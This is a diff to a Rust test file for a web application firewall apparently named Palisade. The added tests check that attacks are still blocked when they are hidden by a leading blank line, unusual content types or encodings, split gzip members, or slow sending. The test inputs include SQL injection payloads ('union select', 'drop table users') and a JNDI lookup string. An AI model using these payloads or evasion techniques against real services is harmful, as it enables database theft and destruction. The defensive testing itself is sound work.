@@ -2,7 +2,9 @@
 
 use std::fs;
 
-use crate::support::{Answer, Palisade, call, call_with, command, shop, text, until};
+use crate::support::{
+    Answer, Palisade, call, call_raw, call_slowly, call_with, command, shop, text, until,
+};
 
 /// SQL injection in a query, which nobody sends by mistake.
 const ATTACK: &str = "/api/v1/products?q=1%27%20union%20select%20name,pass%20from%20users--%20";
@@ -47,6 +49,85 @@ fn attacks_in_bodies_keys_cookies_and_paths_count_too() {
         assert_eq!(answer.status, 403, "{target} {body}");
     }
     assert!(upstream.got().is_empty());
+}
+
+#[test]
+fn an_empty_line_before_the_request_line_hides_nothing() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let get = |target: &str| format!("GET {target} HTTP/1.1\r\nHost: h\r\n");
+    let close = "Connection: close\r\n\r\n";
+    for target in [ATTACK, "/api/v1/products?x=${jndi:ldap://192.0.2.1/a}"] {
+        let answer = call_raw(palisade.address, format!("\r\n{}{close}", get(target)).as_bytes());
+        assert_eq!(answer.status, 403, "{target}: {}", answer.body);
+    }
+    assert!(upstream.got().is_empty());
+    // A head that is refused for its form is shown to the rules, too.
+    let doubled = format!("\r\n{}Host: h\r\n{close}", get(ATTACK));
+    let answer = call_raw(palisade.address, doubled.as_bytes());
+    assert_eq!(answer.status, 400, "{}", answer.body);
+    let id = answer.header("palisade-event").expect("an id").to_owned();
+    let told = until("its event", || {
+        let event = palisade.json(&["why", &id])["event"].clone();
+        event["rules"].as_array().map(Vec::len).filter(|rules| *rules > 0)
+    });
+    assert!(told > 0);
+    let honest = format!("\r\n{}{close}", get("/api/v1/products"));
+    assert_eq!(call_raw(palisade.address, honest.as_bytes()).status, 200);
+}
+
+#[test]
+fn an_attack_is_found_however_its_body_is_named_coded_or_sent() {
+    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
+    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
+    let to = palisade.address;
+    let attack = r#"{"note":"x'; drop table users; --"}"#;
+    let post = |headers: &[(&str, &str)], body: &str| {
+        call_with(to, "POST", "/api/v1/orders/7", headers, body).status
+    };
+    for kind in
+        ["image/png", "application/octet-stream", "application/x-ndjson", "text/event-stream"]
+    {
+        assert_eq!(post(&[("content-type", kind)], attack), 403, "{kind}");
+        // What is no attack is let through under any name, and answered by the shop.
+        assert_eq!(post(&[("content-type", kind)], r#"{"note":"tea"}"#), 404, "{kind}");
+    }
+    assert_eq!(post(&[("content-type", "application/grpc")], attack), 415);
+    assert_eq!(post(&[("content-encoding", "x")], attack), 415);
+    assert_eq!(post(&[("content-encoding", "identity, identity")], attack), 403);
+    assert_eq!(post(&[("content-encoding", "gzip")], attack), 415);
+    let head = |more: &str, length: usize| {
+        format!(
+            "POST /api/v1/orders/7 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\
+             Content-Type: application/json\r\n{more}Content-Length: {length}\r\n\r\n"
+        )
+    };
+    // `{"note":` in one member, the rest in another, neither of them compressed.
+    let members = [stored(b"{\"note\":"), stored(&attack.as_bytes()[8..])].concat();
+    let coded = [head("Content-Encoding: gzip\r\n", members.len()).as_bytes(), &members].concat();
+    assert_eq!(call_raw(to, &coded).status, 403);
+    let paused = call_slowly(to, head("", attack.len()) + &attack[..1], &attack[1..]);
+    assert_eq!(paused.status, 403);
+    assert!(upstream.got().iter().all(|got| !got.body.contains("drop table")));
+    let tea = r#"{"note":"tea"}"#;
+    assert_eq!(call_slowly(to, head("", tea.len()) + &tea[..1], &tea[1..]).status, 404);
+}
+
+/// A member of gzip that holds `plain` as it is.
+fn stored(plain: &[u8]) -> Vec<u8> {
+    let crc = !plain.iter().fold(!0_u32, |crc, byte| {
+        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
+            if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }
+        })
+    });
+    let length = u16::try_from(plain.len()).expect("a short text");
+    let mut member = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x01".to_vec();
+    member.extend(length.to_le_bytes());
+    member.extend((!length).to_le_bytes());
+    member.extend(plain);
+    member.extend(crc.to_le_bytes());
+    member.extend(u32::from(length).to_le_bytes());
+    member
 }
 
 #[test]
